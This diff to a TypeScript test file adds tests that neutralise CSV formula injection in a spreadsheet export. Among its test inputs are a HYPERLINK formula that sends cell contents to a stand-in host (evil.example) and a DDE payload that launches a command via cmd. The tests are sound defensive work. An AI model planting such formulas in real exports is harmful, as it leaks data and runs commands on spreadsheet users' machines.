@@ -1,6 +1,16 @@
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
-import { csvField, csvQuoted, csvRow, parseCsv, type CsvParseResult } from "./csv.ts";
+import {
+  FORMULA_START,
+  csvField,
+  csvQuoted,
+  csvRow,
+  parseCsv,
+  type CsvParseResult,
+} from "./csv.ts";
+
+/** What a reader gets back from csvRow: the text, with a ' before one that began like a formula. */
+const asWritten = (text: string) => (FORMULA_START.test(text) ? `'${text}` : text);
 
 describe("parseCsv", () => {
   test("reads quoted commas, doubled quotes and line breaks inside quotes", () => {
@@ -45,8 +55,25 @@ describe("parseCsv", () => {
     );
   });
 
-  test("reads back exactly what the export's csvRow writes", () => {
-    const cell = fc.string({ unit: fc.constantFrom("a", "Z", ",", '"', "\n", "\r", " ", "é") });
+  test("reads back exactly what the export's csvRow writes (a formula's text behind its ')", () => {
+    const cell = fc.string({
+      unit: fc.constantFrom(
+        "a",
+        "Z",
+        ",",
+        '"',
+        "\n",
+        "\r",
+        " ",
+        "é",
+        "=",
+        "+",
+        "-",
+        "@",
+        "\t",
+        "'",
+      ),
+    });
     fc.assert(
       fc.property(
         fc.array(fc.array(cell, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 8 }),
@@ -56,7 +83,7 @@ describe("parseCsv", () => {
           expect(parsed.ok).toBe(true);
           if (!parsed.ok) return;
           // A row of only empty fields is a line of commas, not a blank line: it survives.
-          expect(parsed.records.map((r) => r.fields)).toEqual(rows);
+          expect(parsed.records.map((r) => r.fields)).toEqual(rows.map((r) => r.map(asWritten)));
         },
       ),
     );
@@ -70,6 +97,46 @@ describe("csvField and csvQuoted", () => {
     expect(csvField('say "hi"')).toBe('"say ""hi"""');
     expect(csvField("two\nlines")).toBe('"two\nlines"');
     expect(csvField("cr\ronly")).toBe('"cr\ronly"');
+  });
+
+  test("text that begins like a formula gets a leading ' and is quoted (OWASP CSV injection)", () => {
+    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(
+      '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
+    );
+    expect(csvField("+cmd|' /C calc'!A0")).toBe(`"'+cmd|' /C calc'!A0"`);
+    expect(csvField("-2+3")).toBe(`"'-2+3"`);
+    expect(csvField("@SUM(A1:A2)")).toBe(`"'@SUM(A1:A2)"`);
+    expect(csvField("\t=1")).toBe(`"'\t=1"`);
+    expect(csvField("\r=1")).toBe(`"'\r=1"`);
+    // Only the first character counts; a formula character later is plain text.
+    expect(csvField("a=b")).toBe("a=b");
+    expect(csvField("Visual Studio Code")).toBe("Visual Studio Code");
+  });
+
+  test("numbers and dates Lull writes itself are written as they are, negative or not", () => {
+    expect(csvRow([-3, -0.5, 42, new Date("2026-11-27T09:30:00Z")])).toBe(
+      "-3,-0.5,42,2026-11-27T09:30:00.000Z\r\n",
+    );
+  });
+
+  test("property: no text written by csvField reads back as a cell a spreadsheet would run", () => {
+    const text = fc.string({
+      unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", ",", '"', "'", "a", "1", " "),
+    });
+    fc.assert(
+      fc.property(text, (value) => {
+        const written = csvField(value);
+        const parsed = parseCsv(`${written},end\r\n`);
+        expect(parsed.ok).toBe(true);
+        if (!parsed.ok) return;
+        const cell = parsed.records[0]!.fields[0]!;
+        expect(FORMULA_START.test(cell)).toBe(false);
+        expect(cell).toBe(asWritten(value));
+        // A neutralised field is always quoted, so the ' sits inside the quotes.
+        if (FORMULA_START.test(value)) expect(written.startsWith(`"'`)).toBe(true);
+      }),
+      { numRuns: 2000 },
+    );
   });
 
   test("null and undefined are empty fields; dates are UTC ISO 8601; numbers as written", () => {
